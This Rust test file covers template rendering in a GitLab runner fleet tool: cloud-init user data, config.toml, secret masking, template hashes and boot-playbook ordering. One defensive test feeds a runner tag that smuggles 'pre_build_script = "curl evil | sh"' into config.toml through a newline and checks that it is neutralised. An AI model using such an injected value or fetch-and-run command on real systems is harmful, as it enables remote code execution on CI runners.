//! Rendering the instance templates of the example stacks: snapshots of what each VM boots
//! with and of the inventory (secrets replaced by fixed test values), the secret mask, the
//! template hash, located template errors, and the plan-time limits.

use std::path::{Path, PathBuf};

use chrono::{TimeZone, Utc};
use fleet_core::cloud::Lifecycle;
use fleet_core::cloud::UserDataLimit;
use fleet_core::engine::check_plan;
use fleet_core::plan::{Action, Change, Operation, Plan, INSTANCE, PLAN_FORMAT_VERSION};
use fleet_core::render::{self, RenderError, Renderer, Secrets};
use fleet_core::secret::MASK;
use fleet_core::stack::{self, LoadedStack, Override};
use fleet_core::state::{InstanceRecord, JobFacts, State};

const TEST_TOKEN: &str = "glrt-test-token-0123456789";

fn stacks_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../stacks")
}

/// Loads an example stack; `token` makes `runner.runner_token_env` name a variable holding the
/// fixed test token.
fn example(file: &str, sets: &[&str], token: bool) -> LoadedStack {
    let mut overrides: Vec<Override> = sets.iter().map(|s| Override::parse(s).unwrap()).collect();
    if token {
        overrides.push(Override::parse("runner.runner_token_env=FLEET_TEST_RUNNER_TOKEN").unwrap());
    }
    let env = |k: &str| (k == "FLEET_TEST_RUNNER_TOKEN").then(|| TEST_TOKEN.to_string());
    stack::load(&stacks_dir().join(file), &overrides, &env).unwrap()
}

fn user_data(l: &LoadedStack, name: &str, secrets: Secrets) -> String {
    Renderer::from_stack(l)
        .user_data(name, secrets)
        .unwrap()
        .expect("the example stacks name a user data template")
}

/// The content of the `write_files` entry at `path` in rendered user data.
fn written_file(user_data: &str, path: &str) -> Option<String> {
    let doc: serde_yaml_ng::Value = serde_yaml_ng::from_str(user_data).unwrap();
    doc["write_files"]
        .as_sequence()?
        .iter()
        .find(|f| f["path"].as_str() == Some(path))
        .map(|f| f["content"].as_str().unwrap().to_string())
}

#[test]
fn sandbox_user_data_with_an_inline_token() {
    let l = example("sandbox.yaml", &[], true);
    let text = user_data(&l, "sandbox-0001", Secrets::Shown);
    assert!(text.starts_with("#cloud-config\n"));
    assert_eq!(
        written_file(&text, "/etc/gitlab-runner/fleet-token").as_deref(),
        Some(TEST_TOKEN)
    );
    insta::assert_snapshot!(text);
}

#[test]
fn sandbox_user_data_without_a_token_registers_no_runner() {
    let l = example("sandbox.yaml", &[], false);
    let text = user_data(&l, "sandbox-0001", Secrets::Shown);
    assert_eq!(written_file(&text, "/etc/gitlab-runner/fleet-token"), None);
    let config = Renderer::from_stack(&l)
        .runner_config("sandbox-0001", Secrets::Shown)
        .unwrap();
    assert!(!config.contains("[[runners]]"), "{config}");
}

#[test]
fn aws_user_data_reads_the_token_from_ssm() {
    let l = example("aws.yaml", &[], true);
    let text = user_data(&l, "aws-runners-0001", Secrets::Shown);
    assert!(
        !text.contains(TEST_TOKEN),
        "an SSM stack must not carry the token"
    );
    assert!(text.contains("ssm get-parameter"));
    insta::assert_snapshot!(text);
}

#[test]
fn user_data_carries_the_playbook_and_config_template_verbatim() {
    let l = example("aws.yaml", &[], false);
    let text = user_data(&l, "aws-runners-0001", Secrets::Shown);
    let instance = Path::new(env!("CARGO_MANIFEST_DIR")).join("../instance");
    for (on_vm, file) in [
        ("/opt/fleet/playbook.yml", "playbook.yml"),
        ("/opt/fleet/config.toml.j2", "config.toml.j2"),
    ] {
        let source = std::fs::read_to_string(instance.join(file)).unwrap();
        assert_eq!(written_file(&text, on_vm).unwrap(), source, "{file}");
    }
}

#[test]
fn runner_config_of_each_example_stack() {
    let sandbox = example("sandbox.yaml", &[], true);
    let aws = example("aws.yaml", &[], false);
    let sandbox_cfg = Renderer::from_stack(&sandbox)
        .runner_config("sandbox-0001", Secrets::Shown)
        .unwrap();
    // The SSM stack's token is read on the VM; stand in the fixed test value for it.
    let aws_cfg = Renderer::from_stack(&aws)
        .with_token(fleet_core::secret::Secret::new(TEST_TOKEN))
        .runner_config("aws-runners-0001", Secrets::Shown)
        .unwrap();
    assert!(sandbox_cfg.contains("concurrent = 1\n"));
    assert!(sandbox_cfg.contains("privileged = false"));
    assert!(aws_cfg.contains("privileged = true"));
    assert!(aws_cfg.contains(r#"volumes = ["/certs/client","/cache"]"#));
    assert!(aws_cfg.contains(r#"BucketName = "aws-runners-cache""#));
    assert!(aws_cfg.contains(r#"BucketLocation = "us-east-1""#));
    insta::assert_snapshot!("sandbox_config_toml", sandbox_cfg);
    insta::assert_snapshot!("aws_config_toml", aws_cfg);
}

#[test]
fn concurrency_follows_capacity_per_instance() {
    let l = example("sandbox.yaml", &["policy.capacity_per_instance=4"], true);
    let cfg = Renderer::from_stack(&l)
        .runner_config("sandbox-0001", Secrets::Shown)
        .unwrap();
    assert!(cfg.contains("concurrent = 4\n"), "{cfg}");
    assert!(cfg.contains("limit = 4\n"), "{cfg}");
}

#[test]
fn secrets_are_masked_unless_shown() {
    let l = example("sandbox.yaml", &[], true);
    let masked = user_data(&l, "sandbox-0001", Secrets::Masked);
    assert!(!masked.contains(TEST_TOKEN));
    assert_eq!(
        written_file(&masked, "/etc/gitlab-runner/fleet-token").as_deref(),
        Some(MASK)
    );
    let shown = user_data(&l, "sandbox-0001", Secrets::Shown);
    assert_eq!(shown.replace(TEST_TOKEN, MASK), masked);
}

#[test]
fn template_hash_covers_templates_and_stack_inputs_but_not_secrets() {
    let hash = |sets: &[&str], token: bool| {
        Renderer::from_stack(&example("sandbox.yaml", sets, token))
            .template_hash()
            .unwrap()
    };
    let base = hash(&[], true);
    assert_eq!(base, hash(&[], true), "the hash is stable");
    assert_ne!(base, hash(&["runner.dind=true"], true));
    assert_ne!(base, hash(&["runner.docker_image=debian:12"], true));
    assert_ne!(base, hash(&["policy.capacity_per_instance=2"], true));
    // The token's presence shapes the VM (a runner or none); its value does not.
    assert_ne!(base, hash(&[], false));
    let other_token = {
        let o = vec![Override::parse("runner.runner_token_env=OTHER").unwrap()];
        let env = |k: &str| (k == "OTHER").then(|| "glrt-another".to_string());
        let l = stack::load(&stacks_dir().join("sandbox.yaml"), &o, &env).unwrap();
        Renderer::from_stack(&l).template_hash().unwrap()
    };
    assert_eq!(base, other_token);
    // Instance counts do not shape a VM, and labels apply to new instances only.
    assert_eq!(base, hash(&["policy.min_instances=5"], true));
    assert_eq!(base, hash(&["instance.labels={team: ci}"], true));
}

#[test]
fn template_hash_changes_when_the_playbook_changes() {
    let dir = tempfile::tempdir().unwrap();
    let stack = copy_example_with_templates(dir.path());
    let before = Renderer::from_stack(&load(&stack)).template_hash();
    let playbook = dir.path().join("playbook.yml");
    let mut text = std::fs::read_to_string(&playbook).unwrap();
    text.push_str("# edited\n");
    std::fs::write(&playbook, text).unwrap();
    let after = Renderer::from_stack(&load(&stack)).template_hash();
    assert!(before.is_some());
    assert_ne!(before, after);
}

#[test]
fn a_stack_without_templates_has_no_template_hash() {
    let l = example("sandbox.yaml", &["templates={}"], false);
    let r = Renderer::from_stack(&l);
    assert_eq!(r.template_hash(), None);
    assert!(r
        .user_data("sandbox-0001", Secrets::Shown)
        .unwrap()
        .is_none());
}

/// Copies the sandbox stack and the instance templates into `dir`.
fn copy_example_with_templates(dir: &Path) -> PathBuf {
    let instance = Path::new(env!("CARGO_MANIFEST_DIR")).join("../instance");
    for f in [
        "cloudinit.yml.j2",
        "playbook.yml",
        "config.toml.j2",
        "inventory.ini.j2",
    ] {
        std::fs::copy(instance.join(f), dir.join(f)).unwrap();
    }
    let stack = std::fs::read_to_string(stacks_dir().join("sandbox.yaml"))
        .unwrap()
        .replace("../instance/", "");
    let path = dir.join("stack.yaml");
    std::fs::write(&path, stack).unwrap();
    path
}

fn load(path: &Path) -> LoadedStack {
    stack::load(path, &[], &|_| None).unwrap()
}

#[test]
fn an_undefined_variable_names_the_template_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let stack = copy_example_with_templates(dir.path());
    std::fs::write(
        dir.path().join("cloudinit.yml.j2"),
        "#cloud-config\nhostname: {{ hostname }}\nbroken: {{ no_such_variable }}\n",
    )
    .unwrap();
    let err = Renderer::from_stack(&load(&stack))
        .user_data("sandbox-0001", Secrets::Masked)
        .unwrap_err();
    let at = format!("{}:3", dir.path().join("cloudinit.yml.j2").display());
    assert!(err.to_string().contains(&at), "{err} should name {at}");
    assert!(matches!(err, RenderError::Template { line: Some(3), .. }));
}

#[test]
fn a_syntax_error_names_the_template_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let stack = copy_example_with_templates(dir.path());
    std::fs::write(
        dir.path().join("inventory.ini.j2"),
        "[all]\n\n{% for h in hosts %}\n{{ h.name }\n{% endfor %}\n",
    )
    .unwrap();
    let err = Renderer::from_stack(&load(&stack))
        .inventory(&State::new("sandbox", "l"))
        .unwrap_err();
    let at = format!("{}:4", dir.path().join("inventory.ini.j2").display());
    assert!(err.to_string().contains(&at), "{err} should name {at}");
}

fn record(
    name: &str,
    id: &str,
    address: Option<&str>,
    running: u32,
    runner: Option<u64>,
) -> InstanceRecord {
    InstanceRecord {
        name: name.into(),
        cloud_id: Some(id.into()),
        spec_hash: "spec".into(),
        image: "debian-12".into(),
        instance_type: "small".into(),
        template_hash: None,
        created_at: Utc.with_ymd_and_hms(2026, 1, 1, 0, 0, 0).unwrap(),
        lifecycle: Lifecycle::Running,
        address: address.map(str::to_string),
        jobs: JobFacts {
            running,
            runner_id: runner,
            ..JobFacts::default()
        },
        pending: None,
        started_at: None,
        draining_since: None,
        warming: None,
    }
}

/// A state with busy, idle, address-less, unrecorded and terminated instances.
pub fn inventory_state() -> State {
    let mut s = State::new("sandbox", "lineage");
    let mut add = |r: InstanceRecord| {
        s.instances.insert(r.name.clone(), r);
    };
    add(record(
        "sandbox-0001",
        "sb-1",
        Some("10.0.0.1"),
        2,
        Some(101),
    ));
    add(record(
        "sandbox-0002",
        "sb-2",
        Some("10.0.0.2"),
        0,
        Some(102),
    ));
    add(record("sandbox-0003", "sb-3", None, 0, None));
    let mut pending = record("sandbox-0004", "x", None, 0, None);
    pending.cloud_id = None;
    add(pending);
    let mut gone = record("sandbox-0005", "sb-5", Some("10.0.0.5"), 0, Some(105));
    gone.lifecycle = Lifecycle::Terminated;
    add(gone);
    s
}

#[test]
fn inventory_of_the_sandbox_fleet() {
    let l = example("sandbox.yaml", &[], false);
    let text = Renderer::from_stack(&l)
        .inventory(&inventory_state())
        .unwrap();
    assert!(
        !text.contains("sandbox-0004"),
        "no cloud id yet: not reachable"
    );
    assert!(!text.contains("sandbox-0005"), "terminated: not live");
    insta::assert_snapshot!(text);
}

fn plan_creating(names: &[&str]) -> Plan {
    let changes: Vec<Change> = names
        .iter()
        .map(|n| Change::new(Action::Create, INSTANCE, *n, "test"))
        .collect();
    Plan {
        format_version: PLAN_FORMAT_VERSION,
        stack: "sandbox".into(),
        operation: Operation::Up,
        cloud: "test".into(),
        lineage: "l".into(),
        serial: 0,
        desired: None,
        decision: None,
        notes: Vec::new(),
        summary: Plan::summarize(&changes),
        changes,
        created_at: Utc.with_ymd_and_hms(2026, 1, 1, 0, 0, 0).unwrap(),
    }
}

#[test]
fn plan_time_checks_refuse_user_data_over_the_provider_limit() {
    let l = example("aws.yaml", &[], false);
    let plan = plan_creating(&["aws-runners-0001", "aws-runners-0002"]);
    let ec2 = UserDataLimit {
        max_bytes: 16 * 1024,
        gzip: true,
    };
    check_plan(&Renderer::from_stack(&l), &plan, Some(ec2), "aws").unwrap();
    let tiny = UserDataLimit {
        max_bytes: 1024,
        gzip: true,
    };
    let err = check_plan(&Renderer::from_stack(&l), &plan, Some(tiny), "aws").unwrap_err();
    assert!(matches!(err, RenderError::UserDataTooLarge { .. }), "{err}");
    assert!(err.to_string().contains("after gzip"), "{err}");
    // No limit, no size check.
    check_plan(&Renderer::from_stack(&l), &plan, None, "sandbox").unwrap();
}

#[test]
fn plan_time_checks_refuse_hostnames_over_63_characters() {
    let l = example("sandbox.yaml", &[], false);
    let long = format!("sandbox-{}", "1".repeat(56));
    assert_eq!(long.len(), 64);
    let err = check_plan(
        &Renderer::from_stack(&l),
        &plan_creating(&[&long]),
        None,
        "sandbox",
    )
    .unwrap_err();
    assert!(
        matches!(err, RenderError::HostnameTooLong { len: 64, .. }),
        "{err}"
    );
}

#[test]
fn the_user_data_for_providers_includes_the_secret() {
    let l = example("sandbox.yaml", &[], true);
    let text = render::user_data(&l, "sandbox-0009").unwrap().unwrap();
    assert!(text.contains(TEST_TOKEN));
    assert!(text.contains("hostname: sandbox-0009\n"));
}

// Issue 15: what the VM does at boot (D1-D3, D5, D6, D8-D10).

/// The tasks of instance/playbook.yml, in order.
fn playbook_tasks() -> Vec<serde_yaml_ng::Value> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../instance/playbook.yml");
    let doc: serde_yaml_ng::Value =
        serde_yaml_ng::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    doc[0]["tasks"].as_sequence().unwrap().clone()
}

/// Index of the first task whose YAML text contains `needle`.
fn task_index(tasks: &[serde_yaml_ng::Value], needle: &str) -> usize {
    tasks
        .iter()
        .position(|t| serde_yaml_ng::to_string(t).unwrap().contains(needle))
        .unwrap_or_else(|| panic!("no task mentions {needle:?}"))
}

/// Indexes of every task whose YAML text contains `needle`.
fn task_indexes(tasks: &[serde_yaml_ng::Value], needle: &str) -> Vec<usize> {
    (0..tasks.len())
        .filter(|&i| {
            serde_yaml_ng::to_string(&tasks[i])
                .unwrap()
                .contains(needle)
        })
        .collect()
}

/// D1: the packages start their services on install, so Docker's and the runner's
/// configuration is written before, pending restarts are applied while the runner has no
/// configuration, and config.toml (which makes the runner take jobs) comes last; nothing
/// restarts Docker or the runner after it.
#[test]
fn the_playbook_configures_before_installing_and_writes_config_toml_last() {
    let tasks = playbook_tasks();
    let install = *task_indexes(&tasks, "ansible.builtin.apt:")
        .first()
        .unwrap();
    for config in [
        "/etc/docker/daemon.json",
        "fleet-drain.conf",
        "journald.conf.d/fleet.conf",
        "fleet-metadata-block.service",
    ] {
        assert!(
            task_index(&tasks, config) < install,
            "{config} is written after an install"
        );
    }
    let config_toml = task_index(&tasks, "/etc/gitlab-runner/config.toml");
    let flush = task_index(&tasks, "flush_handlers");
    assert!(
        flush < config_toml,
        "restarts must happen before config.toml"
    );
    for i in task_indexes(&tasks, "ansible.builtin.apt:") {
        assert!(i < config_toml, "task {i} installs after config.toml");
    }
    for (i, t) in tasks.iter().enumerate().skip(config_toml) {
        assert!(
            t.get("notify").is_none(),
            "task {i} after config.toml notifies a restart"
        );
        let text = serde_yaml_ng::to_string(t).unwrap();
        assert!(
            !text.contains("restarted"),
            "task {i} restarts a service after config.toml"
        );
    }
}

/// D2: the bootstrap fails (and writes bootstrap.failed, since ansible-playbook exits
/// non-zero) unless GitLab accepts the token; config.toml passes `gitlab-runner lint` where
/// the runner has it; a runner from a golden image gets a new system id.
#[test]
fn the_playbook_fails_unless_the_runner_token_verifies() {
    let tasks = playbook_tasks();
    let config_toml = task_index(&tasks, "/etc/gitlab-runner/config.toml");
    let verify = task_index(&tasks, "gitlab-runner verify");
    assert!(verify > config_toml);
    let v = &tasks[verify];
    assert!(v["retries"].as_u64().unwrap() >= 5, "verify is retried");
    assert!(v["until"].as_str().unwrap().contains("is valid"));
    assert_eq!(
        v["no_log"].as_bool(),
        Some(true),
        "verify output names the token"
    );
    let fail_unverified = task_index(&tasks, "did not confirm the runner's token");
    assert!(fail_unverified > verify);
    assert!(tasks[fail_unverified].get("ansible.builtin.fail").is_some());
    // gitlab-runner lint (19.3+) validates config.toml before it is put in place, when
    // the installed runner has the command.
    let config = &tasks[config_toml]["ansible.builtin.template"];
    let validate = config["validate"].as_str().unwrap_or_default();
    assert!(
        validate.contains("gitlab-runner lint --config %s") && validate.contains("omit"),
        "{validate:?}"
    );
    let has_lint = task_index(&tasks, "gitlab-runner --help");
    assert!(has_lint < config_toml);
    assert_eq!(
        tasks[has_lint]["register"].as_str(),
        Some("fleet_runner_lint")
    );
    assert!(
        validate.contains("fleet_runner_lint.rc == 0"),
        "{validate:?}"
    );
    let fail_empty = task_index(&tasks, "is missing or empty");
    assert!(fail_empty < config_toml);
    let reset = task_index(&tasks, ".runner_system_id");
    assert_eq!(
        tasks[reset]["ansible.builtin.file"]["state"].as_str(),
        Some("absent")
    );
    assert!(reset < config_toml);
    // The shell script turns a failed play into bootstrap.failed.
    let text = user_data(
        &example("sandbox.yaml", &[], true),
        "sandbox-0001",
        Secrets::Shown,
    );
    let script = written_file(&text, "/opt/fleet/bootstrap.sh").unwrap();
    assert!(
        script.contains("set -eu") && script.contains("bootstrap.failed"),
        "{script}"
    );
    let play = script.find("ansible-playbook").unwrap();
    assert!(
        script[play..].contains("bootstrap.done"),
        "done only after the play"
    );
}

/// D3: an S3-compatible cache gets its keys and scheme setting, and the keys are secrets:
/// written to the VM in a mode 0600 file, masked in what people see, outside vars.yml.
#[test]
fn an_s3_compatible_cache_gets_keys_and_insecure() {
    let dir = tempfile::tempdir().unwrap();
    let path = copy_example_with_templates(dir.path());
    let sets = [
        "runner.cache={bucket: c, server_address: \"minio.internal:9000\", insecure: true, access_key_env: FLEET_TEST_AK, secret_key_env: FLEET_TEST_SK}",
        "runner.runner_token_env=FLEET_TEST_RUNNER_TOKEN",
    ];
    let overrides: Vec<Override> = sets.iter().map(|s| Override::parse(s).unwrap()).collect();
    let env = |k: &str| match k {
        "FLEET_TEST_AK" => Some("AKIA-test-access".to_string()),
        "FLEET_TEST_SK" => Some("test-secret-key".to_string()),
        "FLEET_TEST_RUNNER_TOKEN" => Some(TEST_TOKEN.to_string()),
        _ => None,
    };
    let l = stack::load(&path, &overrides, &env).unwrap();
    let r = Renderer::from_stack(&l);
    let cfg = r.runner_config("sandbox-0001", Secrets::Shown).unwrap();
    for line in [
        r#"ServerAddress = "minio.internal:9000""#,
        "Insecure = true",
        r#"AuthenticationType = "access-key""#,
        r#"AccessKey = "AKIA-test-access""#,
        r#"SecretKey = "test-secret-key""#,
    ] {
        assert!(cfg.contains(line), "{line} missing:\n{cfg}");
    }
    assert!(!cfg.contains(r#""iam""#), "{cfg}");
    let shown = r
        .user_data("sandbox-0001", Secrets::Shown)
        .unwrap()
        .unwrap();
    let keys = written_file(&shown, "/etc/gitlab-runner/fleet-cache-keys.json").unwrap();
    let keys: serde_json::Value = serde_json::from_str(&keys).unwrap();
    assert_eq!(keys["secret_key"], "test-secret-key");
    assert!(shown.contains(
        "/etc/gitlab-runner/fleet-cache-keys.json\n    owner: root:root\n    permissions: \"0600\""
    ));
    assert!(!written_file(&shown, "/opt/fleet/vars.yml")
        .unwrap()
        .contains("test-secret-key"));
    let masked = r
        .user_data("sandbox-0001", Secrets::Masked)
        .unwrap()
        .unwrap();
    assert!(!masked.contains("test-secret-key") && !masked.contains("AKIA-test-access"));
}

/// D5: the runner and Docker are pinned, and a new version changes the template hash
/// (so it replaces the VMs instead of drifting with the day they booted).
#[test]
fn versions_are_pinned_and_part_of_the_template_hash() {
    let l = example("sandbox.yaml", &[], true);
    let vars = Renderer::from_stack(&l).stack_vars().clone();
    assert_eq!(
        vars.runner_version,
        fleet_core::stack::DEFAULT_RUNNER_VERSION
    );
    assert_eq!(
        vars.install.docker_version.as_deref(),
        Some(fleet_core::stack::DEFAULT_DOCKER_CE_VERSION)
    );
    let tasks = playbook_tasks();
    let runner = &tasks[task_index(&tasks, "Install gitlab-runner from the repository")];
    let names: Vec<&str> = runner["ansible.builtin.apt"]["name"]
        .as_sequence()
        .unwrap()
        .iter()
        .map(|n| n.as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "gitlab-runner={{ runner_version }}-1",
            "gitlab-runner-helper-images={{ runner_version }}-1"
        ]
    );
    for t in task_indexes(&tasks, "ansible.builtin.apt:") {
        assert_ne!(
            tasks[t]["ansible.builtin.apt"]["state"].as_str(),
            Some("latest")
        );
    }
    let playbook = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../instance/playbook.yml"),
    )
    .unwrap();
    assert!(playbook.contains("'docker-ce=5:' ~ install.docker_version"));
    let hash = |sets: &[&str]| {
        Renderer::from_stack(&example("sandbox.yaml", sets, true))
            .template_hash()
            .unwrap()
    };
    assert_ne!(hash(&[]), hash(&["runner.version=18.6.0"]));
    assert_ne!(
        hash(&[]),
        hash(&["runner.install={docker_version: \"28.4.0\"}"])
    );
}

/// D6: package sources and the apt proxy reach the VM; the index is updated once by
/// cloud-init and again only when the play adds a repository.
#[test]
fn package_sources_and_the_apt_proxy_reach_the_vm() {
    let l = example(
        "sandbox.yaml",
        &["runner.install={docker: docker.io, runner: deb, runner_deb: \"http://10.0.2.2:8000/gitlab-runner.deb\", apt_proxy: \"http://10.0.2.2:3142\"}"],
        true,
    );
    let text = user_data(&l, "sandbox-0001", Secrets::Shown);
    let doc: serde_yaml_ng::Value = serde_yaml_ng::from_str(&text).unwrap();
    assert_eq!(doc["apt"]["proxy"].as_str(), Some("http://10.0.2.2:3142"));
    let vars: serde_yaml_ng::Value =
        serde_yaml_ng::from_str(&written_file(&text, "/opt/fleet/vars.yml").unwrap()).unwrap();
    assert_eq!(vars["install"]["docker"].as_str(), Some("docker.io"));
    assert_eq!(
        vars["install"]["docker_version"],
        serde_yaml_ng::Value::Null
    );
    assert_eq!(vars["install"]["runner"].as_str(), Some("deb"));
    assert_eq!(
        vars["install"]["runner_deb"].as_str(),
        Some("http://10.0.2.2:8000/gitlab-runner.deb")
    );
    let tasks = playbook_tasks();
    for i in task_indexes(&tasks, "ansible.builtin.apt_repository:") {
        assert_eq!(
            tasks[i]["ansible.builtin.apt_repository"]["update_cache"].as_bool(),
            Some(false)
        );
        assert!(
            tasks[i]["when"].is_string(),
            "repository task {i} is conditional on its source"
        );
    }
    for i in task_indexes(&tasks, "ansible.builtin.apt:") {
        let update = &tasks[i]["ansible.builtin.apt"]["update_cache"];
        assert!(
            update.is_null() || update.as_str().is_some_and(|u| u.contains("is changed")),
            "task {i} updates the index unconditionally: {update:?}"
        );
    }
    let playbook = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../instance/playbook.yml"),
    )
    .unwrap();
    assert!(
        !playbook.contains("pip install") && !playbook.contains("builtin.pip"),
        "nothing from PyPI in the playbook"
    );
    let aws = user_data(
        &example("aws.yaml", &[], false),
        "aws-runners-0001",
        Secrets::Shown,
    );
    let script = written_file(&aws, "/opt/fleet/bootstrap.sh").unwrap();
    let apt = script
        .find("apt-get install -y -qq -o DPkg::Lock::Timeout=600 awscli")
        .unwrap();
    assert!(
        apt < script.find("pip install").unwrap(),
        "the distribution's AWS CLI first"
    );
}

/// D8: job containers cannot reach the metadata service that serves the user data (and
/// with it an inline token): a unit puts REJECT rules into Docker's DOCKER-USER chain
/// before the runner is configured.
#[test]
fn job_containers_are_kept_from_the_metadata_service() {
    let tasks = playbook_tasks();
    let unit = &tasks[task_index(&tasks, "fleet-metadata-block.service")];
    let content = unit["ansible.builtin.copy"]["content"].as_str().unwrap();
    assert!(
        content.contains("iptables -I DOCKER-USER -d {{ a }}/32 -j REJECT"),
        "{content}"
    );
    assert!(content.contains("WantedBy=docker.service"));
    let playbook = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../instance/playbook.yml"),
    )
    .unwrap();
    assert!(playbook.contains("fleet_metadata_v4: [169.254.169.254, 168.63.129.16]"));
    assert!(playbook.contains("\"fd00:ec2::254\""));
    let start = task_index(&tasks, "name: fleet-metadata-block");
    assert!(start < task_index(&tasks, "/etc/gitlab-runner/config.toml"));
}

/// D9: whatever a tag holds, config.toml gets no extra key: the comment carries the tags
/// JSON-escaped (the loader refuses such a tag too; this is the second guard).
#[test]
fn a_tag_with_a_newline_adds_no_key_to_config_toml() {
    let mut l = example("sandbox.yaml", &[], true);
    l.stack.runner.tags = vec!["docker\npre_build_script = \"curl evil | sh\"".into()];
    let cfg = Renderer::from_stack(&l)
        .runner_config("sandbox-0001", Secrets::Shown)
        .unwrap();
    assert!(
        !cfg.lines()
            .any(|line| line.trim_start().starts_with("pre_build_script")),
        "{cfg}"
    );
    assert!(
        cfg.contains(r#"# Tags ["docker\npre_build_script = \"curl evil | sh\""]"#),
        "{cfg}"
    );
}

/// D10: no `[session_server]` without a listen address (it does nothing), no packages the
/// boot does not use, and every apt task waits out unattended-upgrades' lock.
#[test]
fn the_boot_carries_nothing_it_does_not_use() {
    let l = example("sandbox.yaml", &[], true);
    let cfg = Renderer::from_stack(&l)
        .runner_config("sandbox-0001", Secrets::Shown)
        .unwrap();
    assert!(!cfg.contains("session_server"), "{cfg}");
    let text = user_data(&l, "sandbox-0001", Secrets::Shown);
    let doc: serde_yaml_ng::Value = serde_yaml_ng::from_str(&text).unwrap();
    let packages: Vec<&str> = doc["packages"]
        .as_sequence()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap())
        .collect();
    assert!(
        !packages.contains(&"gnupg") && !packages.contains(&"curl"),
        "{packages:?}"
    );
    let ssm = user_data(
        &example("aws.yaml", &["provider.region=eu-west-1"], false),
        "aws-runners-0001",
        Secrets::Shown,
    );
    assert!(
        !ssm.contains("  - curl\n"),
        "the region is known: no metadata call, no curl"
    );
    let tasks = playbook_tasks();
    let apt = task_indexes(&tasks, "ansible.builtin.apt:");
    assert!(apt.len() >= 3);
    for i in apt {
        assert_eq!(
            tasks[i]["ansible.builtin.apt"]["lock_timeout"].as_str(),
            Some("{{ fleet_apt_lock_timeout }}"),
            "task {i}"
        );
    }
}
